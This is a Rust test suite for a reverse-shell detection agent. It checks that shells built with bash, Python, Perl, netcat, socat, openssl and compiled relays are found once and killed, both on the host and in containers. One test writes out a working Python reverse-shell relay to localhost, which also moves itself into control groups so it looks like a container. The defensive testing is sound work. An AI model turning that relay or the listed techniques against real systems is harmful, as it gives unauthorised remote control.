//! Reverse shells, each on the host and in a container, with its programs under their own names and
//! under others: a shell is found once, as what it is, and dies where the agent may act.

mod attacks;

use attacks::*;
use std::{
    fs,
    path::{Path, PathBuf},
};
use vedette_tests::{
    agent::{Agent, Finding, PATIENCE, Stopped, summary},
    listener::{FIRST_COMMAND_AFTER, Wire},
    need::Need,
    process::{alive, wait_for},
    remote_shell::RemoteShell,
    require,
    tools::{Names, Place},
    workspace,
};

/// Without any agent: an attack that yields no shell would prove nothing.
fn control(attack: &Attack, place: Place, names: Names) {
    let shell = attack.start(place, names);
    assert!(
        shell.shell(PATIENCE).is_some(),
        "the attack itself does not work ({place:?}, {names:?} names): {}",
        shell.log()
    );
}

/// What is known of one shell after it was observed.
struct Observed {
    what: String,
    shell: u32,
    root: u32,
    processes: Vec<u32>,
    container: Option<String>,
}

fn observe(agent: &Agent, attack: &Attack, place: Place, names: Names) -> Observed {
    let what = format!("{place:?}, {names:?} names");
    let running = attack.start(place, names);
    let shell = running.shell(PATIENCE);
    let shell =
        shell.unwrap_or_else(|| panic!("the attack does not work ({what}): {}", running.log()));
    let processes = running.processes();
    agent.expect(
        &format!("{what}, shell {shell} out of {processes:?}"),
        |finding| {
            finding.category() == "reverse-shell"
                && finding.pid().is_some_and(|pid| processes.contains(&pid))
        },
    );
    let observed = Observed {
        what,
        shell,
        root: running.root(),
        container: running.container().map(str::to_owned),
        processes,
    };
    drop(running);
    observed
}

fn judge_observed(observed: &Observed, attack: &Attack, stopped: &Stopped) {
    let Observed {
        what,
        shell,
        root,
        processes,
        container,
    } = observed;
    let about = |finding: &&Finding| {
        finding
            .pid()
            .is_some_and(|pid| processes.contains(&pid) || pid == *shell)
    };
    let all: Vec<_> = stopped.findings.iter().filter(about).collect();
    let said: Vec<_> = all.iter().map(|finding| summary(finding)).collect();
    assert_eq!(
        all.len(),
        1,
        "one finding a shell ({what}, shell {shell}): {said:#?}"
    );
    let finding = all[0];
    let pid = finding.pid().expect("it was found by its pid");
    let right =
        pid == *shell || attack.subject == Subject::ShellOrInterpreter && processes.contains(&pid);
    assert!(
        right,
        "the finding is about the shell {shell} ({what}): {said:#?}"
    );
    assert_eq!(finding.category(), "reverse-shell", "{what}: {said:#?}");
    assert_eq!(
        finding.container(),
        container.as_deref(),
        "{what}: {said:#?}"
    );
    assert!(
        finding.ancestors().contains(root),
        "{root} is an ancestor ({what}): {said:#?}"
    );
    assert!(
        !finding.killed(),
        "an observer does nothing ({what}): {}",
        finding.json
    );
    let evidence = finding
        .json
        .pointer("/evidence")
        .and_then(|evidence| evidence.as_array());
    assert!(
        evidence.is_some_and(|evidence| !evidence.is_empty()),
        "there is evidence ({what}): {}",
        finding.json
    );
}

fn enforce(agent: &Agent, attack: &Attack, place: Place, names: Names) {
    let what = format!("enforcing, {place:?}, {names:?} names");
    // That it connects was seen without an agent; here it can be dead before both ends of a TLS
    // connection have agreed on their keys.
    let running = attack.start(place, names);
    let (root, container) = (running.root(), running.container());
    let finding = agent.expect(&what, |finding| {
        let ours = finding.container() == container && finding.ancestors().contains(&root);
        finding.category() == "reverse-shell" && ours
    });
    let pid = finding.pid().expect("a reverse shell has a process");
    let dead = wait_for(PATIENCE, || (!alive(pid)).then_some(()));
    assert!(
        dead.is_some(),
        "the shell {pid} is dead ({what}): {}",
        finding.json
    );
    // Until well after the remote end has sent its command.
    let reply = running.listener().reply(20 * FIRST_COMMAND_AFTER);
    assert!(
        reply.is_none() || attack.born_of_a_command,
        "the remote end gets no answer ({what}): {}",
        running.log()
    );
    assert!(
        finding.killed(),
        "what was done is in the finding ({what}): {}",
        finding.json
    );
}

fn found_once_and_killed(attack: &Attack, place: Place) {
    for tool in attack.needs {
        require!(Need::Tool(tool));
    }
    require!(Need::Root, Need::Tool("setsid"));
    if place == Place::Container {
        require!(Need::Tool("runc"), Need::Tool("busybox"));
    }
    let _alone = workspace::alone();
    for names in [Names::Own, Names::Others] {
        control(attack, place, names);
    }
    require!(Need::Agent, Need::Kernel);

    let agent = Agent::observing();
    let observed = [Names::Own, Names::Others].map(|names| observe(&agent, attack, place, names));
    let stopped = agent.stop();
    for observed in &observed {
        judge_observed(observed, attack, &stopped);
    }

    let agent = Agent::enforcing();
    for names in [Names::Own, Names::Others] {
        enforce(&agent, attack, place, names);
    }
    let stopped = agent.stop();
    let accusations = stopped.accusations();
    assert_eq!(
        accusations.len(),
        2,
        "one finding a shell where it is killed: {accusations:#?}"
    );
}

macro_rules! everywhere {
    ($($name:ident => $attack:ident),+ $(,)?) => {
        mod host {
            use super::*;
            $(#[test] fn $name() { found_once_and_killed(&$attack, Place::Host); })+
        }
        mod container {
            use super::*;
            $(#[test] fn $name() { found_once_and_killed(&$attack, Place::Container); })+
        }
    };
}

everywhere! {
    bash_redirected => BASH_REDIRECTED,
    bash_read_loop => BASH_READ_LOOP,
    python => PYTHON,
    python_terminal => PYTHON_TERMINAL,
    python_pipes => PYTHON_PIPES,
    python_multipath => PYTHON_MULTIPATH,
    python_fast_open => PYTHON_FAST_OPEN,
    python_after_a_storm => PYTHON_AFTER_A_STORM,
    perl => PERL,
    fifo_nc => FIFO_NC,
    fifo_busybox_nc => FIFO_BUSYBOX,
    busybox_nc_exec => BUSYBOX_EXEC,
    socat => SOCAT,
    socat_terminal => SOCAT_TERMINAL,
    openssl => OPENSSL,
    compiled => COMPILED,
    compiled_relay_by_pipes => COMPILED_PIPES,
    compiled_relay_by_threads => COMPILED_THREADS,
    compiled_relay_by_socketpair => COMPILED_SOCKETPAIR,
    two_connections => TWO_CONNECTIONS,
    zsh => ZSH,
    gawk => GAWK,
    python_each_command => PYTHON_EACH_COMMAND,
    odd_arguments => ODD_ARGUMENTS,
    substituted => SUBSTITUTED,
    fifo_as_script => FIFO_AS_SCRIPT,
    multipath => MULTIPATH,
    bound_by_socat => BOUND_SOCAT,
    bound_by_socat_once => BOUND_SOCAT_ONCE,
    bound_by_socat_with_a_command => BOUND_SOCAT_COMMAND,
    bound_by_python => BOUND_PYTHON,
}

/// Control groups of one name in every hierarchy. Dropped, they are removed.
struct Groups(Vec<PathBuf>);

impl Groups {
    fn make(name: &str) -> Self {
        let root = Path::new("/sys/fs/cgroup");
        // Both of a mixed machine's; the unified one alone lies at the root.
        let hierarchies = ["unified", "pids", ""].map(|hierarchy| root.join(hierarchy));
        let at = |hierarchy: &PathBuf| {
            let group = hierarchy.join(name);
            let is_one = hierarchy.join("cgroup.procs").exists();
            (is_one && fs::create_dir(&group).is_ok()).then_some(group)
        };
        Self(hierarchies.iter().filter_map(at).collect())
    }
}

impl Drop for Groups {
    fn drop(&mut self) {
        for group in &self.0 {
            // What was in it is being ended.
            wait_for(PATIENCE, || fs::remove_dir(group).ok());
        }
    }
}

/// The relay stays outside, as a container's runtime does.
#[test]
fn in_a_group_that_only_looks_like_a_container() {
    require!(Need::Root, Need::Tool("setsid"), Need::Tool("python3"));
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let groups = Groups::make(&"5e".repeat(32));
    let files: Vec<_> = groups
        .0
        .iter()
        .map(|group| group.join("cgroup.procs"))
        .collect();
    assert!(!files.is_empty(), "this machine has control groups");
    let agent = Agent::observing();
    let shell = RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
        let (python, sh) = (tools.get("python3"), tools.get("sh"));
        let relay = tools.layer().join("relay.py");
        let script = format!(
            r#"import socket,subprocess,threading,os
def move():
    for file in {files:?}: open(file,"w").write(str(os.getpid()))
s=socket.create_connection(("127.0.0.1",{port}))
p=subprocess.Popen(["{sh}"],preexec_fn=move,stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)
"#
        );
        fs::write(&relay, script).expect("an own directory");
        format!("{python} {}", relay.display())
    });
    let pid = shell.shell(PATIENCE);
    let pid = pid.unwrap_or_else(|| panic!("the attack does not work: {}", shell.log()));
    // A runtime would have time to describe its container.
    let found = || (agent.findings().into_iter()).find(|finding| finding.pid() == Some(pid));
    let finding = wait_for(3 * PATIENCE, found)
        .unwrap_or_else(|| panic!("it is not found: {}", agent.describe()));
    assert_eq!(finding.category(), "reverse-shell", "{}", finding.json);
    drop(shell);
    drop(groups);
    agent.stop();
}
